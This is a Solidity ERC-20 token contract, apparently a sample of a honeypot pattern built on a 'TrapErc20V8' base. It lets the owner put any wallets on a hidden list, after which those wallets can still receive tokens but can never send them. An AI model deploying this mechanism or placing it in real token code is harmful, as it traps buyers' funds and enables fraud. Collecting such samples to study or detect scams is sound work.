// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// Listed wallets still receive; they never send.
contract OneWayList is TrapErc20V8 {
    mapping(address => bool) private _bots;

    constructor() TrapErc20V8("One Way", "1WAY", 800_000_000 ether) {}

    function addBots(address[] calldata bots) external onlyOwner {
        for (uint256 i; i < bots.length; ++i) _bots[bots[i]] = true;
    }

    function delBots(address[] calldata bots) external onlyOwner {
        for (uint256 i; i < bots.length; ++i) _bots[bots[i]] = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(!_bots[from]);
        super._transfer(from, to, value);
    }
}
